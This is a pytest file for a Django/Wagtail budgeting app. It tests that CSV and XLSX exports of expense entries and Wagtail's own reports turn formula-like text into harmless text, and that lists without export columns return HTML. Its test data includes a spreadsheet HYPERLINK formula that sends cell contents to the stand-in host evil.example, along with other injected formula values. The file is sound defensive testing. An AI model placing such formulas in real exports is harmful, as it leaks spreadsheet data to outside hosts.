"""What is exported holds no formula, and a list without columns for it exports nothing."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from wagtail.log_actions import log

from budgets.ledger import post_expense
from budgets.ledger import reverse as take_back
from budgets.models import Budget
from studio.people.roles import Role
from studio.spreadsheets import BEGINS_FORMULA, as_text, cell
from tests.budgets.factories import LineFactory, greenlit
from tests.factories import UserFactory

FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "Invoice")'


def body_of(answer):
    return b"".join(answer.streaming_content)


def csv_of(answer):
    return list(csv.DictReader(io.StringIO(body_of(answer).decode())))


def xlsx_of(answer):
    headings, *rows = load_workbook(io.BytesIO(body_of(answer))).active.iter_rows()
    names = [heading.value for heading in headings]
    return [dict(zip(names, row, strict=True)) for row in rows]


@given(st.text())
def test_no_text_begins_a_formula_and_none_is_lost(text):
    assert not as_text(text).startswith(BEGINS_FORMULA)
    assert as_text(text).removeprefix("'") == text.removeprefix("'")


@pytest.mark.parametrize("value", [-5, Decimal("-5.00"), 1.5, None, True, dt.date(2026, 11, 26)])
def test_numbers_days_and_nothing_stay_what_they_are(value):
    assert cell(value) is value


@pytest.mark.parametrize("sign", BEGINS_FORMULA)
def test_text_of_whatever_origin_is_harmless(sign):
    class Named:
        def __str__(self):
            return f"{sign}1"

    for value in (f"{sign}1", Named()):
        assert cell(value) == f"'{sign}1"
    assert cell(gettext_lazy("=1")) == "'=1"


@pytest.mark.django_db
def test_a_supplier_s_formula_is_text_in_the_exported_entries(signed_in, finance):
    line = LineFactory(name="+Crew", approved=100_00)
    video = greenlit((line, 60_00))
    paid = {"supplier": FORMULA, "invoice": "@SUM(A1)", "note": "=1+1"}
    expense = post_expense(line.pk, video.pk, 25_00, by=finance, **paid)
    take_back(expense.pk, by=finance, reason="-2+3")
    client, url = signed_in(finance), reverse("budgets:entries")

    newest, first = csv_of(client.get(url, {"export": "csv", "kind": "expense"}))

    assert (newest["Amount"], newest["Note"]) == ("-25.00", "'-2+3")
    assert first["Supplier"] == f"'{FORMULA}"
    assert (first["Invoice"], first["Note"]) == ("'@SUM(A1)", "'=1+1")
    assert (first["Line"], first["Amount"]) == ("'+Crew", "25.00")

    newest, first = xlsx_of(client.get(url, {"export": "xlsx", "kind": "expense"}))

    assert (newest["Amount"].value, newest["Amount"].data_type) == (-25, "n")
    assert (first["Supplier"].value, first["Supplier"].data_type) == (f"'{FORMULA}", "s")


@pytest.mark.django_db
@pytest.mark.parametrize("rows_of", [csv_of, xlsx_of])
def test_wagtail_s_own_reports_are_as_harmless(signed_in, rows_of):
    admin = UserFactory(is_superuser=True, first_name=FORMULA)
    log(Budget.objects.create(name=FORMULA), "wagtail.edit", user=admin)
    kind = rows_of.__name__.removesuffix("_of")
    answer = signed_in(admin).get("/admin/reports/site-history/", {"export": kind})
    rows = rows_of(answer)  # also of the pages that every studio has
    written = [str(getattr(value, "value", value)) for row in rows for value in row.values()]
    assert written.count(f"'{FORMULA}") == 1
    assert not [value for value in written if value.startswith(BEGINS_FORMULA)]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name",
    [
        "budget_lines:index",
        "budget_periods:index",
        "wagtailusers_users:index",
        "wagtailusers_groups:index",
        "budgets:estimates",
    ],
)
def test_a_list_without_columns_to_export_shows_itself(signed_in, name):
    LineFactory(name="Crew of the day")
    client = signed_in(UserFactory(role=Role.FINANCE, is_superuser=True))
    page = client.get(reverse(name), {"export": "csv"})
    assert page["Content-Type"].startswith("text/html")
    assert b"</html>" in page.content
